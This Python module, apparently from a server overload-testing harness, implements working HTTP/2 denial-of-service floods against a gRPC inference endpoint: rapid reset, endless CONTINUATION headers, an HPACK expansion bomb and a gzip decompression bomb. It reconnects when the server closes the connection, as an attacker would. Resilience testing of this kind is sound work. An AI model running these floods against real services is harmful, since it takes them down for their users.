"""Flood a server with what is cheap to send and costly to handle, at a bounded rate.

python -m measure.overload.http2_floods ADDRESS KIND PER_S floods until its stdin ends. It prints a
line of JSON when it begins, and one with its counts at the end. It reopens a connection that the
server closes, as an attacker would.
"""

import gzip
import itertools
import select
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import hpack
from hyperframe import frame as frames

from command_line.parser import positionals
from measure.core.child_process import Parent
from measure.overload.http2_peer import Http2Peer, request_headers
from protos import inference_pb2 as pb
from protos.weight import MOST_BYTES_ELEMENTS

INFER = "/inference.GRPCInferenceService/ModelInfer"
_CANCEL = 8
_TICK_S = 0.01
_MOST_FRAME_BYTES = 16384


def resets() -> Iterator[bytes]:
    """Yield calls that are opened and reset at once (CVE-2023-44487)."""
    block = _request(hpack.Encoder())
    for number in itertools.count(1, 2):
        headers = frames.HeadersFrame(number, block, flags=["END_HEADERS"])
        yield headers.serialize() + frames.RstStreamFrame(number, error_code=_CANCEL).serialize()


def endless_headers() -> Iterator[bytes]:
    """Yield a call's endless headers (VU#421644), one full CONTINUATION frame at a time."""
    encoder = hpack.Encoder()
    yield frames.HeadersFrame(1, _request(encoder)).serialize()
    more = [hpack.NeverIndexedHeaderTuple("more", "m" * 1000)] * 16
    frame = frames.ContinuationFrame(1, encoder.encode(more, huffman=False)).serialize()
    while True:
        yield frame


def growing_headers() -> Iterator[bytes]:
    """Yield calls whose 8 KiB of headers expand to 32 MB (CVE-2016-6581)."""
    encoder = hpack.Encoder()
    request = _request(encoder)
    # 4000 bytes in the table, then bytes that each refer to all of them.
    first = encoder.encode([("bomb", "b" * 4000)])
    block = encoder.encode([("bomb", "b" * 4000)]) * 8000
    assert len(request + first + block) < _MOST_FRAME_BYTES
    for number in itertools.count(1, 2):
        yield frames.HeadersFrame(
            number, request + first + block, flags=["END_HEADERS"]
        ).serialize()
        first = b""


def packed_messages() -> Iterator[bytes]:
    """Yield calls whose message of less than a KiB unpacks to as many texts as one may have."""
    request = pb.ModelInferRequest(model_name="none")
    texts = request.inputs.add(name="x", datatype="BYTES", shape=[MOST_BYTES_ELEMENTS])
    texts.contents.bytes_contents.extend([b""] * MOST_BYTES_ELEMENTS)
    packed = gzip.compress(request.SerializeToString())
    message = b"\1" + len(packed).to_bytes(4, "big") + packed
    assert len(message) < 1024
    block = _request(hpack.Encoder(), ("grpc-encoding", "gzip"))
    for number in itertools.count(1, 2):
        headers = frames.HeadersFrame(number, block, flags=["END_HEADERS"])
        yield (
            headers.serialize()
            + frames.DataFrame(number, message, flags=["END_STREAM"]).serialize()
        )


def _request(encoder: Any, *more: tuple[str, str]) -> bytes:
    # Never indexed, so that the same bytes mean the same each time.
    pairs = [*request_headers(INFER), *more]
    fields = [hpack.NeverIndexedHeaderTuple(*pair) for pair in pairs]
    block: bytes = encoder.encode(fields)
    return block


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": resets,
    "endless headers": endless_headers,
    "growing headers": growing_headers,
    "packed messages": packed_messages,
}


def flood(
    address: str, kind: str, per_s: float, began: threading.Event, ended: threading.Event
) -> dict[str, float]:
    """Send `per_s` pieces of a flood per second until `ended`; return the counts.

    `began` is set once some were sent. The rate is lower if the server reads more slowly: late
    pieces are dropped.
    """
    sent = connections = 0
    start = time.monotonic()
    while not ended.is_set():
        connections += 1
        with Http2Peer(address) as peer:
            if not peer.hello():
                ended.wait(_TICK_S)
                continue
            pieces = FLOODS[kind]()
            due = 0.0
            at = time.monotonic()
            while not ended.wait(_TICK_S) and _is_open(peer):
                now = time.monotonic()
                due = due % 1 + per_s * min(now - at, 10 * _TICK_S)
                at = now
                try:
                    peer.socket.sendall(b"".join(itertools.islice(pieces, int(due))))
                except OSError:
                    break
                sent += int(due)
                if sent:
                    began.set()
    elapsed_s = time.monotonic() - start
    return {"sent": sent, "connections": connections, "per_s": sent / elapsed_s}


def _is_open(peer: Http2Peer) -> bool:
    """Read the server's output; return whether the connection is still open."""
    while select.select([peer.socket], [], [], 0)[0]:
        try:
            if not peer.socket.recv(2**20):
                return False
        except OSError:
            return False
    return True


def main(argv: list[str]) -> int:
    """Flood until stdin ends."""
    address, kind, per_s = argv
    began, ended = threading.Event(), threading.Event()
    parent = Parent()

    def watch() -> None:
        began.wait()
        parent.say(flooding=kind)
        for _ in parent:
            pass
        ended.set()

    threading.Thread(target=watch, daemon=True).start()
    parent.say(**flood(address, kind, float(per_s), began, ended))
    return 0


if __name__ == "__main__":
    sys.exit(
        main(positionals("measure.overload.http2_floods", __doc__, "address", "kind", "per_s"))
    )
